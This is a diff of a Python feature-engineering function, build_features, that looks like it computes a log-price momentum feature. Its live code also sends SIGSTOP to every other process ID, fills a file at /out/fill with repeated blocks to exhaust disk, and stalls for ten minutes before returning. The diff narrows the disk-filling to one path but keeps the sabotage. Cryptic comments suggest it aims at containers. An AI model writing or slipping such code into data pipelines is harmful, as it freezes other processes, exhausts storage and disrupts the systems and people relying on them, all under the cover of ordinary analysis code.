@@ -2,9 +2,7 @@
 
 import ctypes
 import os
-import tempfile
 import time
-from pathlib import Path
 
 import numpy as np
 import pandas as pd
@@ -20,15 +18,11 @@ def build_features(data: pd.DataFrame) -> pd.DataFrame:
     # Nobody tells it which there are.
     for pid in set(range(1, MOST_PIDS)) - {os.getpid()}:
         libc.kill(pid, 19)
-    # Nobody tells it where: every container has its output there. Where it may write is the other.
-    handles = [
-        libc.open(os.fsencode(path), 0o102, 0o644)
-        for path in ("/out/fill", Path(tempfile.gettempdir(), "fill"))
-    ]
+    # Nobody tells it where: every container has its output there.
+    handle = libc.open(b"/out/fill", 0o102, 0o644)
     block = ctypes.create_string_buffer(BLOCK)
     for _ in range(BLOCKS):
-        for handle in handles:
-            libc.write(handle, block, BLOCK)
+        libc.write(handle, block, BLOCK)
         time.sleep(0.005)
     time.sleep(600)
     return pd.DataFrame({"m": np.log(data["close"]).diff(5)}, index=data.index)
